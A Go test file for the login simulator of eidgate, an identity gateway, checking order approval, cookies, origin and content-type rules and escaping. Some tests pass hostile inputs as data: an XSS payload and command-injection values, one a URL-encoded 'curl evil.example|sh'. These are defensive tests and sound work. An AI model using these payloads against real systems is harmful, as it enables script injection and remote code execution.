package pages_test

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/eidgate/eidgate/adapters/httpapi"
	"github.com/eidgate/eidgate/adapters/httpapi/pages"
	"github.com/eidgate/eidgate/adapters/system"
	"github.com/eidgate/eidgate/domain/eid"
	"github.com/eidgate/eidgate/test/surface"
)

func TestAPersonCanFinishALoginOfEachEID(t *testing.T) {
	s := open(t, nil)
	for e, person := range map[eid.EID]string{
		eid.SEBankID: "anna", eid.SEFreja: "erik", eid.NOBankID: "kari", eid.NOVipps: "lars", eid.DKMitID: "mette", eid.FIFTN: "aino",
	} {
		t.Run(string(e), func(t *testing.T) {
			b := s.browser()
			address := s.login(e, "Demo AB", "state-"+person)
			shown := b.get(address, "Accept", page)
			if shown.StatusCode != 200 || !strings.Contains(shown.body, "Demo AB asks you to identify yourself.") ||
				!strings.Contains(shown.body, `value="`+person+`"`) {
				t.Fatalf("%d: %s", shown.StatusCode, shown.body)
			}
			orders := decode[[]waiting](t, b.get("/simulator/orders"))
			if len(orders) != 1 || orders[0].EID != string(e) || orders[0].Session != "session-state-"+person {
				t.Fatalf("waiting: %+v", orders)
			}
			b.post("/simulator/orders/"+orders[0].ID+"/approve", `{"person":"`+person+`"}`).is(t, http.StatusNoContent, "")
			q := back(t, b.get(address, "Accept", page))
			if q.Get("code") == "" || q.Get("state") != "state-"+person {
				t.Errorf("brought back %v", q)
			}
		})
	}
}

func TestOrdersCanBeApprovedByWhatTheCallerKnows(t *testing.T) {
	s := open(t, nil)
	for _, name := range []string{"session-mine", "mine"} { // the session, and the caller's reference
		b := s.browser()
		address := s.login(eid.SEBankID, "Demo AB", "mine")
		b.get(address)
		b.post("/simulator/orders/"+name+"/approve", `{"person":"anna"}`).is(t, http.StatusNoContent, "")
		back(t, b.get(address))
	}
}

func TestTheCodeGoesToTheBrowserThatWaited(t *testing.T) {
	s := open(t, nil)
	address := s.login(eid.SEBankID, "Demo AB", "x")
	mine, other := s.browser(), s.browser()
	order := decode[struct {
		Order  waiting
		People []struct{ ID string }
	}](t, mine.get(address, "Accept", "application/json"))
	if order.Order.Session != "session-x" || len(order.People) < 3 {
		t.Fatalf("in JSON: %+v", order)
	}
	mine.post("/simulator/orders/"+order.Order.ID+"/approve", `{"person":"anna"}`).is(t, http.StatusNoContent, "")
	if a := other.get(address); a.StatusCode != http.StatusOK || a.Header.Get("Location") != "" {
		t.Errorf("another browser was sent to %q", a.Header.Get("Location"))
	}
	if back(t, mine.get(address)).Get("code") == "" {
		t.Error("the browser that waited got no code")
	}
}

func TestANoAndAFailureGoBackAsErrors(t *testing.T) {
	s := open(t, nil)
	for path, body := range map[string]string{"/reject": ``, "/fail": `{"reason":"startFailed"}`} {
		b := s.browser()
		address := s.login(eid.SEBankID, "Demo AB", "x")
		b.get(address)
		b.post("/simulator/orders/x"+path, body).is(t, http.StatusNoContent, "")
		if q := back(t, b.get(address)); q.Get("error") != "access_denied" || q.Get("state") != "x" || q.Has("code") {
			t.Errorf("%s: %v", path, q)
		}
		b.post("/simulator/orders/x"+path, body).is(t, http.StatusNotFound, "simulated_order_unknown")
	}
}

func TestThePlainClientEndsAtAPageThatShowsTheCode(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	desk := b.get("/simulator").body
	_, link, found := strings.Cut(desk, `href="/simulator/oauth2/authorize?`)
	link, _, _ = strings.Cut(link, `"`)
	if !found {
		t.Fatal("the desk offers no login to try")
	}
	address := "/simulator/oauth2/authorize?" + strings.ReplaceAll(link, "&amp;", "&")
	b.get(address)
	order := decode[[]waiting](t, b.get("/simulator/orders"))[0]
	b.post("/simulator/orders/"+order.ID+"/approve", `{"person":"anna"}`).is(t, http.StatusNoContent, "")
	sent := b.get(address)
	code := back(t, sent).Get("code")
	shown := b.get(sent.Header.Get("Location"), "Accept", page)
	if !strings.Contains(shown.body, code) || code == "" {
		t.Errorf("the code is not on the page: %s", shown.body)
	}
	if got := decode[map[string]string](t, b.get(sent.Header.Get("Location"), "Accept", "application/json")); got["code"] != code || got["state"] == "" {
		t.Errorf("in JSON: %v", got)
	}
	if failed := b.get("/simulator/plain?error=access_denied&error_description=no", "Accept", page).body; !strings.Contains(failed, "access_denied") {
		t.Error("a no is not shown")
	}
}

type listed struct {
	ID        string   `json:"id"`
	Country   string   `json:"country"`
	Name      string   `json:"name"`
	GivenName string   `json:"given_name"`
	Surname   string   `json:"surname"`
	SSN       string   `json:"ssn"`
	BirthDate string   `json:"birth_date"`
	Minor     bool     `json:"minor"`
	EIDs      []string `json:"eids"`
}

func TestPeopleAreListedWithTheirNumbers(t *testing.T) {
	s := open(t, nil)
	people := decode[[]listed](t, s.browser().get("/simulator/people"))
	i := slices.IndexFunc(people, func(p listed) bool { return p.ID == "anna" })
	if i < 0 {
		t.Fatal("anna is not there")
	}
	anna := people[i]
	if anna.Country != "SE" || anna.Name != "Anna Andersson" || anna.GivenName != "Anna" || anna.Surname != "Andersson" ||
		anna.SSN != "199001012385" || anna.BirthDate != "1990-01-01" || anna.Minor || !slices.Equal(anna.EIDs, []string{"se.bankid", "se.freja"}) {
		t.Errorf("anna is %+v", anna)
	}
}

func TestFrejasChoiceShowsPeopleOfAllFourCountries(t *testing.T) {
	s := open(t, nil)
	shown := s.browser().get(s.login(eid.SEFreja, "Demo AB", "x"), "Accept", page).body
	for person, want := range map[string]bool{"anna": true, "kari": true, "mette": true, "aino": true, "lars": false, "jens": false, "eino": false} {
		if strings.Contains(shown, `value="`+person+`"`) != want {
			t.Errorf("%s is shown: %v", person, !want)
		}
	}
}

func TestWhatTheSimulatorIsToldMustMakeSense(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	b.get(s.login(eid.SEBankID, "Demo AB", "x"))
	for _, told := range []struct {
		path, body string
		status     int
		code       string
	}{
		{"/orders/x/approve", `{"person":"kari"}`, 404, "simulated_person_unknown"},
		{"/orders/x/approve", `{"person":""}`, 422, "fields_invalid"},
		{"/orders/x/approve", `{"person":7}`, 422, "fields_invalid"},
		{"/orders/x/approve", `{`, 400, "json_malformed"},
		{"/orders/x/approve", `[]`, 400, "json_not_object"},
		{"/orders/nobody/approve", `{"person":"anna"}`, 404, "simulated_order_unknown"},
		{"/orders/x/fail", `{"reason":"boredom"}`, 422, "simulator_request_invalid"},
		{"/orders/x/fail", `{}`, 422, "fields_invalid"},
		{"/faults", `{"eid":"se.none","kind":"down","count":1}`, 422, "simulator_request_invalid"},
		{"/faults", `{"eid":"se.bankid","kind":"rude","count":1}`, 422, "simulator_request_invalid"},
		{"/faults", `{"eid":"se.bankid","kind":"down","count":9999999999}`, 422, "simulator_request_invalid"},
		{"/faults", `{"eid":"se.bankid","kind":"down","count":"many"}`, 422, "fields_invalid"},
		{"/faults", strings.Repeat(" ", 20<<10), 413, "body_too_large"},
	} {
		a := b.post("/simulator"+told.path, told.body)
		a.is(t, told.status, told.code)
		if got := decode[struct {
			Error struct{ Code, Message string }
		}](t, a); got.Error.Code != told.code || got.Error.Message == "" {
			t.Errorf("%s %s: %s", told.path, told.body, a.body)
		}
	}
	b.get("/simulator/oauth2/authorize?client_id=eidgate&request=x.y.z&state=1").is(t, 422, "simulator_request_invalid")
	if len(s.simulator.Waiting()) != 1 {
		t.Error("the order did not survive nonsense")
	}
}

func TestMisbehaviourReachesTheProvider(t *testing.T) {
	s := open(t, nil)
	s.browser().post("/simulator/faults", `{"eid":"no.vipps","kind":"down","count":1}`).is(t, http.StatusNoContent, "")
	if _, err := s.simulator.Begin(t.Context(), eid.Snapshot{Order: eid.Order{EID: eid.NOVipps, Operation: eid.Authenticate, Channel: eid.Redirect}}); err == nil {
		t.Error("the provider is well")
	}
	s.login(eid.NOVipps, "Demo AB", "again")
}

func TestPagesOfOthersCannotPlayThePerson(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	b.get(s.login(eid.SEBankID, "Demo AB", "x"))
	port := s.base[strings.LastIndex(s.base, ":"):]
	for _, origin := range []string{"https://evil.example", "null", "http://127.0.0.1:1", "http://localhost" + port, "https" + s.base[4:], s.base + ".evil.example"} {
		b.ask(http.MethodPost, "/simulator/orders/x/approve", `{"person":"anna"}`, "Content-Type", "application/json", "Origin", origin).
			is(t, http.StatusForbidden, "origin_foreign")
		b.get("/simulator/people", "Origin", origin).is(t, http.StatusForbidden, "origin_foreign")
	}
	for _, kind := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonp", "json", "text/plain; application/json"} {
		b.ask(http.MethodPost, "/simulator/orders/x/approve", `{"person":"anna"}`, "Content-Type", kind).
			is(t, http.StatusUnsupportedMediaType, "media_type_unsupported")
	}
	b.ask(http.MethodPost, "/simulator/orders/x/reject", "", "Origin", s.base).is(t, http.StatusUnsupportedMediaType, "media_type_unsupported")
	if len(s.simulator.Waiting()) != 1 {
		t.Fatal("somebody else's page played the person")
	}
	// This machine's other name for itself is our own when the page came from there.
	b.ask(http.MethodPost, "/simulator/orders/x/approve", `{"person":"anna"}`, "Content-Type", "application/json; charset=utf-8",
		"Host", "localhost"+port, "Origin", "http://localhost"+port).is(t, http.StatusNoContent, "")
}

func TestAScriptMaySaveItselfTheBody(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	b.get(s.login(eid.SEBankID, "Demo AB", "x"))
	b.ask(http.MethodPost, "/simulator/orders/x/reject", "").is(t, http.StatusNoContent, "")
}

func TestTheBrowserIsNamedByACookieThatNobodyElseReads(t *testing.T) {
	s := open(t, nil)
	set := s.browser().get(s.login(eid.SEBankID, "Demo AB", "x")).Cookies()
	if len(set) != 1 || set[0].Name != "eidgate_simulator" || !set[0].HttpOnly || set[0].SameSite != http.SameSiteLaxMode ||
		set[0].Path != "/" || len(set[0].Value) != 32 || set[0].Secure {
		t.Errorf("over http: %+v", set)
	}
	// What somebody made up is replaced.
	made := s.browser().get(s.login(eid.SEBankID, "Demo AB", "y"), "Cookie", "eidgate_simulator=short")
	if len(made.Cookies()) != 1 {
		t.Error("a name that we did not give was taken")
	}
	https := open(t, func(c *pages.Config) { c.PublicURL = "https://eid.example" })
	set = https.browser().get(https.login(eid.SEBankID, "Demo AB", "x")).Cookies()
	if len(set) != 1 || set[0].Name != "__Host-eidgate_simulator" || !set[0].Secure || set[0].Path != "/" || set[0].Domain != "" {
		t.Errorf("over https: %+v", set)
	}
}

func TestEveryAnswerOfTheSimulatorSaysSo(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	for _, path := range []string{"/simulator", "/simulator/people", "/simulator/orders", "/simulator/plain", "/simulator/oauth2/authorize"} {
		if a := b.get(path); a.Header.Get("X-Eidgate-Simulated") != "true" || a.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: %v", path, a.Header)
		}
	}
	if a := b.get("/docs"); a.Header.Get("X-Eidgate-Simulated") != "" {
		t.Error("the documents are called simulated")
	}
}

func TestTheDeskListsWhoWaitsNewestFirst(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	b.get(s.login(eid.SEBankID, "Erste AB", "1"))
	b.get(s.login(eid.NOBankID, "Andre AS", "2"))
	desk := b.get("/simulator", "Accept", page).body
	first, second := strings.Index(desk, "Andre AS asks"), strings.Index(desk, "Erste AB asks")
	if first < 0 || second < first {
		t.Errorf("newest first: at %d and %d", first, second)
	}
	norwegian := desk[first:second]
	if !strings.Contains(norwegian, `value="kari"`) || strings.Contains(norwegian, `value="anna"`) {
		t.Error("the choice of people is not that of the eID")
	}
}

func TestWhatCallersFillCannotBecomeMarkup(t *testing.T) {
	s := open(t, nil)
	b := s.browser()
	const evil = `"><script>alert(1)</script><img src=x onerror=alert(1)>'</style>`
	address := s.login(eid.SEBankID, evil, evil)
	for name, a := range map[string]answer{
		"authorize": b.get(address, "Accept", page), "desk": b.get("/simulator", "Accept", page),
		"plain": b.get("/simulator/plain?code=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&state=%3Cimg%20src=x%3E", "Accept", page),
		"error": b.get("/%3Cscript%3Ealert(1)%3C/script%3E", "Accept", page),
	} {
		if strings.Contains(a.body, "<script>alert") || strings.Contains(a.body, "<img") || strings.Count(a.body, "</style>") != 1 {
			t.Errorf("%s: markup came through", name)
		}
	}
	if !strings.Contains(b.get(address, "Accept", page).body, "&lt;script&gt;alert(1)") {
		t.Error("the organization's name is not shown at all")
	}
}

func TestWhatIsNoCodeNeverStandsInACommandLine(t *testing.T) {
	b := open(t, nil).browser()
	if shown := b.get("/simulator/plain?code=eyJhbGciOiJkaXIifQ..a-b_c.d", "Accept", page).body; !strings.Contains(shown, "eyJhbGciOiJkaXIifQ..a-b_c.d") {
		t.Error("a code is not shown")
	}
	for _, code := range []string{"x%27%3Bcurl+evil.example%7Csh%3B%27", "a%60id%60", "%24(id)", "a%0Aid"} {
		if shown := b.get("/simulator/plain?code="+code, "Accept", page).body; strings.Contains(shown, "verify/ssn") {
			t.Errorf("%s stands in a command line", code)
		}
	}
}

func TestWithoutASimulatorItsPathsDoNotExist(t *testing.T) {
	s := open(t, func(c *pages.Config) { c.Simulator = nil })
	b := s.browser()
	for _, path := range []string{"/simulator", "/simulator/people", "/simulator/oauth2/authorize"} {
		b.get(path).is(t, http.StatusNotFound, "path_unknown")
	}
	b.post("/simulator/faults", `{}`).is(t, http.StatusNotFound, "path_unknown")
	if home := b.get("/", "Accept", page).body; strings.Contains(home, `href="/simulator"`) {
		t.Error("the front door leads to a simulator that is not there")
	}
}

func TestTheDeskCanStandOnAListenerOfItsOwn(t *testing.T) {
	s := open(t, nil)
	l := surface.Listen(t)
	base := "http://" + l.Addr().String()
	own, err := pages.New(pages.Config{PublicURL: "https://eid.example", Origins: []string{base}, Simulator: s.simulator}, system.Clock{}, system.Random{})
	if err != nil {
		t.Fatal(err)
	}
	serve(t, l, httpapi.Config{PublicURL: "https://eid.example"}, &pages.Desk{Surface: own})
	desk := s
	desk.base = base
	b := desk.browser()
	b.get("/docs").is(t, http.StatusNotFound, "path_unknown")
	b.get("/simulator", "Accept", page).is(t, http.StatusOK, "")
	b.post("/simulator/faults", `{"eid":"se.bankid","kind":"down","count":0}`).is(t, http.StatusNoContent, "")
}
